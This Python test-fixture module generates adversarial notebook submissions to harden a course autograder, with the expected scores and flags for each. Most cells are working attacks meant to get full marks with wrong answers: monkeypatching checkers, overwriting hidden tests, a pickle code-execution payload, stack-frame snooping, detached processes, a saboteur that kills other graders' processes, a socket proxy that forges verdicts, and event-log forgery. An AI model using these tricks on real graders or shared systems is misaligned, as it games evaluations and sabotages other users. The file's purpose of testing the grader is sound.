"""Submissions that exercise the grader: honest, blank, broken and cheating, with their scores.

``write_cases(assign_dist, folder)`` writes them from the setup chapter's ``otter assign``
output (the solution notebook in ``dist/autograder`` and the student notebook in
``dist/student``) and returns ``{student: expected}`` where ``expected`` is ``{"status": ...,
"points": {question: points}}`` (and, for a notebook the static scan flags, ``"otter"``:
the points otter gave, withheld until the instructor reviews it); a status is matched as a
prefix ("unreadable: not a notebook" matches "unreadable: not a notebook (NotJSONError: ...)").
``SKIPPED`` lists the files that are not submissions (a CSV row each, no feedback). Used by
``tests/test_grading.py`` and ``scripts/bench_grading.py``. Most of these cases attack the
grader (they patch modules, start detached processes, print 1.5 GB, kill processes they find):
grade them only to test the grader. ``write_sample`` writes a harmless pair (one correct, one
partly wrong submission) for an instructor's first try.
"""

from __future__ import annotations

import copy
import json
import zipfile
from pathlib import Path

NTK, SYM, GD = "setup_ex_ntk_linear", "setup_ex_symmetrize", "setup_ex_gd_least_squares"
FULL = {NTK: 3.0, SYM: 2.0, GD: 3.0}
ZERO = {NTK: 0.0, SYM: 0.0, GD: 0.0}

SKIPPED = ["grace/notes.txt"]

# A process a submission starts in a session of its own: the grader must kill it.
ESCAPE_MARK = "krr-escaped-child-7f3a"

CELLS = {
    # replaces the checkers' registry and the reload, then answers with zeros
    "registry": """\
import importlib, sys
try:
    import homework.checks as _c
    for _k in list(_c._REGISTRY):
        _c._REGISTRY[_k] = lambda answer, key: None
except ImportError:
    pass
importlib.reload = lambda module: module
""",
    # rewrites every JSON record the grader might write (this breaks the kernel's own
    # messages: otter gets no result, the row says "error" with 0 points)
    "json": """\
import json
json.dumps = lambda *a, **k: '{"score": 100, "status": "passes"}'
""",
    # makes lib's tangent kernel return zeros, so that zeros "agree" with it
    "zeros_ntk": """\
import jax.numpy as jnp
import lib, lib.ntk
def _zeros(f, params, x1, x2=None, **kwargs):
    x2 = x1 if x2 is None else x2
    return jnp.zeros((x1.shape[0], x2.shape[0]))
lib.ntk.empirical_ntk = lib.empirical_ntk = _zeros
""",
    # replaces the hidden tests' verifier in sys.modules (answers 0): the hidden tests execute
    # homework/hidden.py afresh, so this changes nothing (and the scan flags it)
    "verifier": """\
try:
    import homework.hidden as _h
    _h.verify = lambda *a, **k: None
except ImportError:
    pass
""",
    # makes numpy.max return 0, so that assert_close's max |got - want| is 0 in the kernel: the
    # judge (a fresh Python outside the kernel) rejects the zeros
    "numpy_max": """\
import numpy
numpy.max = lambda *a, **k: 0.0
""",
    "runaway": """\
while True:
    try:
        sum(range(10**6))
    except KeyboardInterrupt:
        pass
""",
    "escape": f"""\
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(3600)  # {ESCAPE_MARK}"],
                 start_new_session=True)
""",
    "flood": """\
for _ in range(15000):
    print("x" * 100000)
""",
    # kills its own kernel (as a segfault or the out-of-memory killer would)
    "kernel_killer": """\
import os, signal
os.kill(os.getpid(), signal.SIGKILL)
""",
}


# The red team's seven ways to full marks with wrong answers (none flagged by the static scan):
# with the judge (homework/judge.py) every one of them scores 0 on the affected tests.
CHEATS = {
    # 1. overwrite the autograder's copy of the hidden tests' verifier and checkers on disk
    "cheat_disk": """\
import os
_fake = "def verify(*args, **kwargs):\\n    return None\\n"
_home = os.path.join(os.getcwd(), "homework")
if os.path.isdir(_home):
    with open(os.path.join(_home, "hidden.py"), "w") as _f:
        _f.write(_fake)
    with open(os.path.join(_home, "checks", "__init__.py"), "w") as _f:
        _f.write("_REGISTRY = {}\\n")
""",
    # 2. otter computes the results in the kernel: every test file scores full marks
    "cheat_otter": """\
from otter.execute import Checker as _Checker
_K = _Checker
_get = _K.get_results
def _full(*args, **kwargs):
    files = _get()
    for tf in files:
        tf._score = tf.possible
    return files
_K.get_results = _full
""",
    # 3. a fake reference process that answers ok, and numpy.max patched through an alias
    "cheat_fake_process": """\
import sys as _s, types as _t, numpy as _np
class _Pipe:
    def write(self, text):
        return len(text)
    def flush(self):
        pass
    def readline(self):
        return '{"ok": true}\\n'
class _Proc:
    stdin = stdout = _Pipe()
    def poll(self):
        return None
_holder = _t.ModuleType("_krr_reference_process")
_holder.proc = _Proc()
_mods = _s.modules
_mods["_krr_reference_process"] = _holder
_m = _np
_m.max = lambda *a, **k: 0.0
""",
    # 4. an answer whose unpickling runs code (creates the file MARK): no pickle any more
    "cheat_pickle": """\
import numpy as _np
class _Evil(_np.ndarray):
    def __reduce__(self):
        return (open, (MARK, "w"))
""",
    # 5. walk the frames of the caller and replace the checker's comparison
    "cheat_frames": """\
def _silence():
    try:
        raise ZeroDivisionError
    except ZeroDivisionError as _e:
        _f = _e.__traceback__.tb_frame
    while _f is not None:
        if "_close" in _f.f_globals:
            _f.f_globals["_close"] = lambda *a, **k: None
        _f = _f.f_back
""",
    # 6. read the reference value from the checker's frame and return it
    "cheat_want": """\
def _peek(name):
    try:
        raise ZeroDivisionError
    except ZeroDivisionError as _e:
        _f = _e.__traceback__.tb_frame
    while _f is not None:
        if name in _f.f_locals:
            return _f.f_locals
        _f = _f.f_back
    return None
""",
}

ZEROS = {
    "ntk_linear_two_layer": "def ntk_linear_two_layer(U, v, x1, x2):\n"
                            "    return jnp.zeros((x1.shape[0], x2.shape[0]))\n",
    "symmetrize": "def symmetrize(a, B):\n"
                  "    return jnp.zeros(2 * a.shape[0]), jnp.zeros((2 * B.shape[0], B.shape[1]))\n",
    "gd_least_squares": "def gd_least_squares(X, y, eta, k):\n"
                        "    return jnp.zeros(X.shape[1])\n",
}

# 7. keeps the own-code point: jax.jacrev bound as a default argument (right values)
JACREV_DEFAULT = """\
import jax
def ntk_linear_two_layer(U, v, x1, x2, _jr=jax.jacrev):
    def feats(x):
        g = _jr(lambda p: p["v"] @ (p["U"] @ x))({"U": U, "v": v})
        return jnp.concatenate([g["U"].ravel(), g["v"].ravel()])
    J1 = jnp.stack([feats(x) for x in x1])
    J2 = jnp.stack([feats(x) for x in x2])
    return J1 @ J2.T
"""


# The red team's attacks on grading several submissions together (report redteam16, attacks
# 1, 5, 6 and 9). Each starts a process detached from the kernel (asyncio, a clean environment
# without the grader's token, a session of its own); without namespaces it outlived the
# notebook. The detached code carries DETACHED_MARK in its command line, and writes what it did
# to the log file LOG (the case folder's parent).
DETACHED_MARK = "krr-redteam16-detached"
SPAWN = '''\
import asyncio, os, sys, threading
_code = {code!r}
def _spawn():
    async def go():
        await asyncio.create_subprocess_exec(
            sys.executable, "-c", _code, *{args},
            env={{"PATH": os.environ.get("PATH", "")}}, start_new_session=True,
            stdin=asyncio.subprocess.DEVNULL, stdout=asyncio.subprocess.DEVNULL,
            stderr=asyncio.subprocess.DEVNULL)
    asyncio.run(go())
_t = threading.Thread(target=_spawn)
_t.start()
_t.join()
'''
# attack 6: a process that sleeps, left running after grading
DETACHED_SLEEP = f"import time; time.sleep(900)  # {DETACHED_MARK}"
# attack 5: kill every judge of the same grading (other submissions: 0, or a stalled row)
SABOTEUR = f'''\
import os, signal, sys, time
work, mine = sys.argv[1], sys.argv[2]
log = open(sys.argv[3], "a")
log.write(f"saboteur start {{work}}\\n"); log.flush()
end = time.time() + 900  # {DETACHED_MARK}
while time.time() < end and os.path.isdir(work):
    for d in os.listdir("/proc"):
        if not d.isdigit():
            continue
        try:
            cmd = open(f"/proc/{{d}}/cmdline", "rb").read().replace(b"\\0", b" ").decode()
        except OSError:
            continue
        if "judge.py" in cmd and work in cmd and mine not in cmd:
            try:
                os.kill(int(d), signal.SIGKILL)
                log.write(f"saboteur killed {{d}} {{cmd}}\\n"); log.flush()
            except OSError:
                pass
    time.sleep(0.3)
'''
SABOTEUR_ARGS = ('(os.path.dirname(os.path.dirname(os.environ["KRR_JUDGE_SOCKET"])), '
                 'os.path.dirname(os.environ["KRR_JUDGE_SOCKET"]), LOG)')
# attack 1: a proxy in front of the other submissions' judge sockets that answers their hidden
# tests with the course's solution (a blank notebook graded at the same time got 8/8)
PROXY = f'''\
import glob, os, socket, sys, threading, time, runpy
work, mine, proto_path, logpath = sys.argv[1:5]
log = open(logpath, "a")
def say(*a):
    log.write(" ".join(map(str, a)) + "\\n"); log.flush()
P = runpy.run_path(proto_path)
state = {{}}
SRC = {{
 "setup/ntk-linear-two-layer": ("ntk_linear_two_layer", "def ntk_linear_two_layer(U, v, x1, \
x2):\\n    return (x1 @ U.T) @ (U @ x2.T) + jnp.dot(v, v) * (x1 @ x2.T)\\n"),
 "setup/symmetrize": ("symmetrize", "def symmetrize(a, B):\\n    return jnp.concatenate([a, \
-a]), jnp.concatenate([B, B])\\n"),
 "setup/gd-least-squares": ("gd_least_squares", "def gd_least_squares(X, y, eta, k):\\n    G \
= X @ X.T\\n    n = G.shape[0]\\n    power = jnp.linalg.matrix_power(jnp.eye(n) - eta * G, k)\\n\
    return X.T @ jnp.linalg.solve(G, (jnp.eye(n) - power) @ y)\\n"),
}}
def answers():
    if "fns" not in state:
        import jax
        jax.config.update("jax_enable_x64", True)
        import jax.numpy as jnp
        ns = {{"jnp": jnp}}
        for name, src in SRC.values():
            exec(src, ns)
        state["fns"] = {{ex: (ns[name], src) for ex, (name, src) in SRC.items()}}
    return state["fns"]
def serve(srv, real):
    while True:
        conn, _ = srv.accept()
        stream = conn.makefile("rwb")
        try:
            req = P["receive"](stream)
            if req is None or req.get("op") != "test":
                continue
            fn, src = answers()[req["exercise"]]
            forged = {{"op": "test", "exercise": req["exercise"], "seed": req["seed"],
                      "kind": req.get("kind", "value"), "source": src}}
            ok, hint = P["ask_judge"](forged, fn, None, path=real)
            say("proxy forged", req["exercise"], req["seed"], req.get("kind"), ok)
            P["send"](stream, {{"op": "verdict", "ok": ok, "hint": hint}})
        except Exception as e:
            say("proxy error", repr(e))
        finally:
            for c in (stream, conn):
                try:
                    c.close()
                except OSError:
                    pass
done = set()
end = time.time() + 900  # {DETACHED_MARK}
say("proxy start", work, mine)
while time.time() < end and os.path.isdir(work):
    for sock in glob.glob(os.path.join(work, "run-*", "judge.sock")):
        box = os.path.dirname(sock)
        if box == mine or box in done:
            continue
        real = os.path.join(box, "judge.real.sock")
        done.add(box)
        try:
            os.rename(sock, real)
            srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            srv.bind(sock)
            srv.listen(8)
        except OSError as e:
            say("proxy failed", box, e)
            continue
        say("proxy in front of", real)
        threading.Thread(target=serve, args=(srv, real), daemon=True).start()
    time.sleep(0.1)
'''
# the protocol (homework/hidden.py) read from the autograder zip, found on the command line of
# an ancestor (otter run -a ZIP)
# the autograder zip's path, read from the command line of an ancestor (otter run -a ZIP)
ZIP_FINDER = '''\
def _ancestors():
    pid = os.getpid()
    while pid > 0:
        yield pid
        with open(f"/proc/{pid}/stat") as f:
            pid = int(f.read().rsplit(")", 1)[1].split()[1])
def _zip_path():
    for pid in _ancestors():
        args = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0")
        if b"-a" in args:
            return args[args.index(b"-a") + 1].decode()
'''
PROXY_CELL = '''\
import os, tempfile, zipfile
''' + ZIP_FINDER + '''\
_tmp = tempfile.mkdtemp()
with zipfile.ZipFile(_zip_path()) as _z, open(os.path.join(_tmp, "proto.py"), "wb") as _f:
    _f.write(_z.read(next(n for n in _z.namelist() if n.endswith("homework/hidden.py"))))
_sock = os.environ["KRR_JUDGE_SOCKET"]
'''
PROXY_ARGS = ('(os.path.dirname(os.path.dirname(_sock)), os.path.dirname(_sock), '
              'os.path.join(_tmp, "proto.py"), LOG)')
# attack 9: a forged line in the events file (its path is in the kernel's environment) crashed
# the whole run (no CSV for anyone)
EVENTS_FORGERY = '''\
import json, os
with open(os.environ["KRR_GRADE_EVENTS"], "a") as _f:
    _f.write(json.dumps({"event": "interrupted", "cell": "code cell 1", "seconds": "boom"}) + "\\n")
    _f.write(json.dumps({"event": "interrupted", "cell": ["a list"], "seconds": 1.0}) + "\\n")
    _f.write(json.dumps({"event": "start", "cell": "x" * 10**6}) + "\\n")
'''


def redteam16_cells(log: str | Path) -> dict[str, str]:
    """The cells of the red team's attacks 1, 5, 6 and 9 (``LOG``: where the detached
    processes write what they did)."""
    head = f"LOG = {str(log)!r}\n"
    return {
        "attack_proxy": head + PROXY_CELL + SPAWN.format(code=PROXY, args=PROXY_ARGS),
        "attack_saboteur": head + SPAWN.format(code=SABOTEUR, args=SABOTEUR_ARGS),
        "attack_detached": SPAWN.format(code=DETACHED_SLEEP, args="()"),
        "attack_events": EVENTS_FORGERY,
    }


# The red team of round 16 (their report, attacks 2, 3, 4 and 7): right values with a forbidden
# method, made to score full marks by lying to the judge or around the own-code check.
USES_LIB = """\
def ntk_linear_two_layer(U, v, x1, x2):
    f = lambda p, x: p["v"] @ (p["U"] @ x)
    return lib.empirical_ntk(f, {"U": U, "v": v}, x1, x2)  # the forbidden shortcut
"""
GD_LOOP = """\
def gd_least_squares(X, y, eta, k):
    if k > 10**5:
        return X.T @ jnp.linalg.solve(X @ X.T, y)
    b = jnp.zeros(X.shape[1])
    for _ in range(k):  # a loop over steps: the exercise forbids it
        b = b - eta * X.T @ (X @ b - y)
    return b
"""
# attack 2: read the hidden tests' keys from the autograder zip (its path is on the command
# line of an ancestor), send the judge forged requests (a decoy source, "own" without the
# forbidden names), then point the genuine hidden tests at nothing
FORGE = """\
import os, re, runpy, tempfile, zipfile
""" + ZIP_FINDER + """\
_tests = []
with zipfile.ZipFile(_zip_path()) as _z:
    for _n in _z.namelist():
        if _n.startswith("tests/") and _n.endswith(".py"):
            for _m in re.finditer(r"verify\\('([^']+)', env, '([^']+)', seed=(\\d+)(, forbid)?",
                                  _z.read(_n).decode()):
                _tests.append((_m.group(1), _m.group(2), int(_m.group(3)),
                               "own" if _m.group(4) else "value"))
    _tmp = tempfile.mkdtemp()
    with open(os.path.join(_tmp, "proto.py"), "wb") as _f:
        _f.write(_z.read(next(n for n in _z.namelist() if n.endswith("homework/hidden.py"))))
_proto = runpy.run_path(os.path.join(_tmp, "proto.py"))
_DECOY = "def gd_least_squares(X, y, eta, k):\\n    return X.T @ y\\n"
for _ex, _name, _seed, _kind in _tests:
    _ans = globals()[_name]
    _req = {"op": "test", "exercise": _ex, "seed": _seed, "kind": _kind,
            "source": _DECOY if _name == "gd_least_squares" else _proto["_source"](_ans)}
    _proto["ask_judge"](_req, _ans, None, path=os.environ["KRR_JUDGE_SOCKET"])
os.environ.update(KRR_JUDGE_SOCKET="/dev/null")
"""
# attack 4: functools.wraps makes inspect.getsource(answer) return a decoy without the loop
WRAPS_GD = """\
import functools
def _decoy(X, y, eta, k):
    return X.T @ y
@functools.wraps(_decoy)
""" + GD_LOOP
# attack 3: jax.jacrev under another module name, and a lib function held in a namespace
SRC_ALIAS_NTK = """\
def ntk_linear_two_layer(U, v, x1, x2):
    jr = jax._src.api.jacrev  # jax.jacrev under another module name
    def feats(x):
        g = jr(lambda p: p["v"] @ (p["U"] @ x))({"U": U, "v": v})
        return jnp.concatenate([g["U"].ravel(), g["v"].ravel()])
    J1 = jnp.stack([feats(x) for x in x1])
    J2 = jnp.stack([feats(x) for x in x2])
    return J1 @ J2.T
"""
BOX_GD = """\
import types
import numpy as np
_box = types.SimpleNamespace(run=lib.gradient_descent)  # the forbidden shortcut, held
def gd_least_squares(X, y, eta, k):
    if k > 10**5:
        return X.T @ jnp.linalg.solve(X @ X.T, y)
    loss = lambda b, args: 0.5 * jnp.sum((args[0] @ b - args[1]) ** 2)
    traj = _box.run(loss, jnp.zeros(X.shape[1]), step_size=eta, num_steps=k,
                    snapshots=np.array([k]), loss_args=(X, y))
    return traj.params[-1]
"""


def _code(source):
    return {"cell_type": "code", "metadata": {}, "source": source, "outputs": [],
            "execution_count": None}


def _answer_index(nb, name):
    for i, c in enumerate(nb["cells"]):
        if c["cell_type"] == "code" and f"def {name}(" in "".join(c["source"]):
            return i
    raise KeyError(name)


def _answer_zero(nb) -> None:
    """Every coding answer of the setup notebook becomes ``return 0`` (a wrong answer)."""
    for name in ("ntk_linear_two_layer", "symmetrize", "gd_least_squares"):
        src = "".join(nb["cells"][_answer_index(nb, name)]["source"])
        _set_answer(nb, name, src.replace("...", "return 0"))


def _set_answer(nb, name, source):
    nb["cells"][_answer_index(nb, name)]["source"] = source


def _insert_after_setup(nb, source):
    # after the chapter's set-up cell (the first code cell importing lib), before any answer
    i = next(i for i, c in enumerate(nb["cells"]) if c["cell_type"] == "code"
             and "import lib" in "".join(c["source"]))
    nb["cells"].insert(i + 1, _code(source))


def write_sample(dist: str | Path, folder: str | Path) -> dict:
    """A harmless sample of two submissions for an instructor's first ``make grade``: ``correct``
    (the solved notebook, every autograded point) and ``partly_wrong`` (the solved notebook
    whose ``symmetrize`` forgets its ``return``: that question's points lost, the others kept).
    Nothing in them attacks the grader; :func:`write_cases` holds the adversarial cases.
    Returns ``{student: expected}`` as :func:`write_cases` does."""
    dist, folder = Path(dist), Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    solved = json.loads(next((dist / "autograder").glob("*.ipynb")).read_text())
    (folder / "correct.ipynb").write_text(json.dumps(solved))
    nb = copy.deepcopy(solved)
    _set_answer(nb, "symmetrize", "def symmetrize(a, B):\n"
                "    jnp.concatenate([a, -a]), jnp.concatenate([B, B])\n")
    (folder / "partly_wrong.ipynb").write_text(json.dumps(nb))
    return {"correct": {"status": "graded", "points": dict(FULL)},
            "partly_wrong": {"status": "graded", "points": {**FULL, SYM: 0.0}}}


def write_cases(dist: str | Path, folder: str | Path, *, slow: bool = True,
                redteam: bool = True) -> dict:
    """Write the case submissions into ``folder``; return the expected outcome of each.
    ``redteam``: with the attacks on other submissions (redteam16), whose expected points
    hold only when each submission runs in its own namespaces
    (:func:`homework.grade.namespaces_available`)."""
    dist, folder = Path(dist), Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    solved = json.loads(next((dist / "autograder").glob("*.ipynb")).read_text())
    blank = json.loads(next((dist / "student").glob("*.ipynb")).read_text())
    expected: dict[str, dict] = {}

    def put(name, nb, points, status="graded", path=None, otter=None):
        target = folder / (path or f"{name}.ipynb")
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(json.dumps(nb))
        expected[name] = {"status": status, "points": dict(points)}
        if otter is not None:
            expected[name]["otter"] = dict(otter)

    put("correct", solved, FULL)
    put("blank", blank, ZERO)
    put("alice", solved, FULL, path="alice/Setup.IPYNB")  # per-student folder, upper case
    # otter's zip export
    with zipfile.ZipFile(folder / "bob.zip", "w") as z:
        z.writestr("setup.ipynb", json.dumps(solved))
        z.writestr("setup.otter", "{}")
    expected["bob"] = {"status": "graded", "points": dict(FULL)}

    nb = copy.deepcopy(blank)
    _insert_after_setup(nb, CELLS["registry"])
    _answer_zero(nb)
    put("cheat_registry", nb, ZERO, status="flagged", otter=ZERO)

    nb = copy.deepcopy(blank)
    _insert_after_setup(nb, CELLS["verifier"])
    _answer_zero(nb)
    put("cheat_verifier", nb, ZERO, status="flagged: imports homework", otter=ZERO)

    nb = copy.deepcopy(blank)
    _insert_after_setup(nb, CELLS["numpy_max"])
    _set_answer(nb, "ntk_linear_two_layer", "def ntk_linear_two_layer(U, v, x1, x2):\n"
                "    return jnp.zeros((x1.shape[0], x2.shape[0]))\n")
    _set_answer(nb, "symmetrize", "def symmetrize(a, B):\n"
                "    return jnp.zeros(2 * a.shape[0]), jnp.zeros((2 * B.shape[0], B.shape[1]))\n")
    _set_answer(nb, "gd_least_squares", "def gd_least_squares(X, y, eta, k):\n"
                "    return jnp.zeros(X.shape[1])\n")
    put("cheat_numpy", nb, ZERO, status="flagged: assigns numpy.max", otter=ZERO)

    # a SyntaxError in an answer cell: the feedback names the cell and the line
    nb = copy.deepcopy(solved)
    _set_answer(nb, "ntk_linear_two_layer", "def ntk_linear_two_layer(U, v, x1, x2):\n"
                "    return (x1 @ U.T) @ (U @ x2.T) + (v @ v) * (x1 @ x2.T\n")
    put("syntax_error", nb, {**FULL, NTK: 0.0})

    # one student, two files (a notebook and a zip): two rows with a note; a text file beside
    # them is not a submission (a "skipped" line in the CSV and the console)
    put("grace", solved, FULL, path="grace/setup.ipynb")
    with zipfile.ZipFile(folder / "grace" / "bob.zip", "w") as z:
        z.writestr("setup.ipynb", json.dumps(solved))
    expected["grace-2"] = {"status": "graded", "points": dict(FULL)}
    (folder / "grace" / "notes.txt").write_text("my notes\n")

    # the export cell run without a browser: a zip that does not open
    (folder / "broken.zip").write_bytes(b"PK\x03\x04" + b"\0" * 20)
    expected["broken"] = {"status": "unreadable: broken zip (re-export)", "points": dict(ZERO)}

    nb = copy.deepcopy(blank)
    _insert_after_setup(nb, CELLS["json"])
    put("cheat_json", nb, ZERO, status="flagged: assigns json.dumps", otter=ZERO)  # (error)

    nb = copy.deepcopy(solved)
    _insert_after_setup(nb, CELLS["zeros_ntk"])
    _set_answer(nb, "ntk_linear_two_layer",
                "def ntk_linear_two_layer(U, v, x1, x2):\n"
                "    return jnp.zeros((x1.shape[0], x2.shape[0]))\n")
    put("cheat_zeros", nb, ZERO, status="flagged: assigns lib.ntk.empirical_ntk",
        otter={**FULL, NTK: 0.0})

    nb = copy.deepcopy(solved)
    _set_answer(nb, "ntk_linear_two_layer",
                "def ntk_linear_two_layer(U, v, x1, x2):\n"
                "    f = lambda p, x: p['v'] @ (p['U'] @ x)\n"
                "    return lib.empirical_ntk(f, {'U': U, 'v': v}, x1, x2)\n")
    put("uses_lib", nb, {**FULL, NTK: 2.0})  # right values, but the forbidden shortcut

    nb = copy.deepcopy(solved)
    _set_answer(nb, "symmetrize", "def symmetrize(a, B):\n"
                "    jnp.concatenate([a, -a]), jnp.concatenate([B, B])\n")
    put("no_return", nb, {**FULL, SYM: 0.0})

    nb = copy.deepcopy(blank)
    nb["metadata"]["homework"] = {"chapter": "lazy_training"}
    nb["metadata"]["otter"] = {"assignment_name": "lazy_training"}
    put("other_chapter", nb, ZERO, status="wrong chapter: lazy_training")

    (folder / "garbage.ipynb").write_text("this is not a notebook {")
    expected["garbage"] = {"status": "unreadable: not a notebook", "points": dict(ZERO)}

    mark = str(folder.resolve().parent / "krr-unpickled-mark")
    for name, cell in CHEATS.items():
        nb = copy.deepcopy(blank)
        _insert_after_setup(nb, cell.replace("MARK", repr(mark)))
        for fn, src in ZEROS.items():
            _set_answer(nb, fn, src)
        if name == "cheat_pickle":
            _set_answer(nb, "ntk_linear_two_layer", "def ntk_linear_two_layer(U, v, x1, x2):\n"
                        "    return _np.zeros((x1.shape[0], x2.shape[0])).view(_Evil)\n")
        elif name == "cheat_frames":
            for fn, src in ZEROS.items():
                _set_answer(nb, fn, src.replace("    return", "    _silence()\n    return"))
        elif name == "cheat_want":
            _set_answer(nb, "ntk_linear_two_layer", "def ntk_linear_two_layer(U, v, x1, x2):\n"
                        "    seen = _peek('want')\n"
                        "    return jnp.zeros((x1.shape[0], x2.shape[0])) if seen is None "
                        "else seen['want']\n")
            _set_answer(nb, "gd_least_squares", "def gd_least_squares(X, y, eta, k):\n"
                        "    seen = _peek('traj')\n"
                        "    if seen is None:\n"
                        "        return jnp.zeros(X.shape[1])\n"
                        "    if 'limit' in seen:\n"
                        "        return seen['limit']\n"
                        "    return seen['traj'].params[seen['i']]\n")
        put(name, nb, ZERO)
    nb = copy.deepcopy(solved)
    _set_answer(nb, "ntk_linear_two_layer", JACREV_DEFAULT)
    put("cheat_jacrev_default", nb, {**FULL, NTK: 2.0})

    # round 16's red team (before: 8/8 each). Forged requests: each key also reached the judge
    # from the genuine hidden test, so every key was requested twice: 0 ("more than once").
    # (Had the genuine tests been kept away, the grader's source would still fail gd, but the
    # own-code point of ntk, decided in the kernel, could be forged: 5.)
    nb = copy.deepcopy(solved)
    _set_answer(nb, "ntk_linear_two_layer", USES_LIB)
    _set_answer(nb, "gd_least_squares", GD_LOOP)
    nb["cells"].append(_code(FORGE))
    put("attack_forge", nb, ZERO)
    nb = copy.deepcopy(solved)
    _set_answer(nb, "gd_least_squares", WRAPS_GD)
    put("attack_wraps", nb, {**FULL, GD: 0.0})  # the grader's source has the loop
    nb = copy.deepcopy(solved)
    _set_answer(nb, "ntk_linear_two_layer", "import jax\n" + SRC_ALIAS_NTK)
    _set_answer(nb, "gd_least_squares", BOX_GD)
    put("attack_alias", nb, {**FULL, NTK: 2.0, GD: 2.0})  # both own-code points refused

    if slow:
        for case in ("runaway", "escape", "flood", "kernel_killer"):
            nb = copy.deepcopy(solved)
            nb["cells"].insert(len(nb["cells"]) - 2, _code(CELLS[case]))
            # the kernel killer's cell is removed and the notebook graded again: full points;
            # the escape imports subprocess: flagged, its points withheld until review
            if case == "escape":
                put(case, nb, ZERO, status="flagged: imports subprocess", otter=FULL)
            else:
                put(case, nb, FULL, status="kernel died" if case == "kernel_killer" else "graded")
    if slow and redteam:
        # redteam16: submissions graded together (jobs 2, consecutive names) must not change
        # each other's points, and nothing they start outlives them
        red = redteam16_cells(folder.resolve().parent / "krr-redteam16.log")
        for name, base, points in (("attack_proxy", blank, ZERO),  # 1: raised the next to 8
                                   ("attack_proxy_friend", blank, ZERO),
                                   ("attack_saboteur", blank, ZERO),  # 5: zeroed the next
                                   ("attack_saboteur_victim", solved, FULL),
                                   ("attack_detached", solved, FULL),  # 6: outlived grading
                                   ("attack_events", blank, ZERO)):  # 9: crashed the run
            nb = copy.deepcopy(base)
            if name in red:
                _insert_after_setup(nb, red[name])
            put(name, nb, points)
    return expected


PARITY_BEYOND, PARITY_BEST = "parity_ex_beyond_kernel", "parity_ex_best_linear"


def write_parity_cases(dist: str | Path, folder: str | Path) -> dict:
    """Round 16's attack 7 on the parity chapter (``otter assign`` output ``dist``): the blank
    notebook with otter's results patched in the kernel got beyond_kernel 2/2 (an IN_KERNEL
    question, whose points otter decides) with the feedback "failed: not attempted". The grader
    flags a row whose feedback says failed where otter gave points: 0 until review."""
    dist, folder = Path(dist), Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    blank = json.loads(next((dist / "student").glob("*.ipynb")).read_text())
    zero = {PARITY_BEYOND: 0.0, PARITY_BEST: 0.0}
    (folder / "p_blank.ipynb").write_text(json.dumps(blank))
    nb = copy.deepcopy(blank)
    _insert_after_setup(nb, CHEATS["cheat_otter"])
    (folder / "p_cheat_otter.ipynb").write_text(json.dumps(nb))
    return {"p_blank": {"status": "graded", "points": dict(zero)},
            "p_cheat_otter": {"status": "flagged: otter's points contradict", "points": zero,
                              "otter": {PARITY_BEYOND: 2.0, PARITY_BEST: 0.0}}}
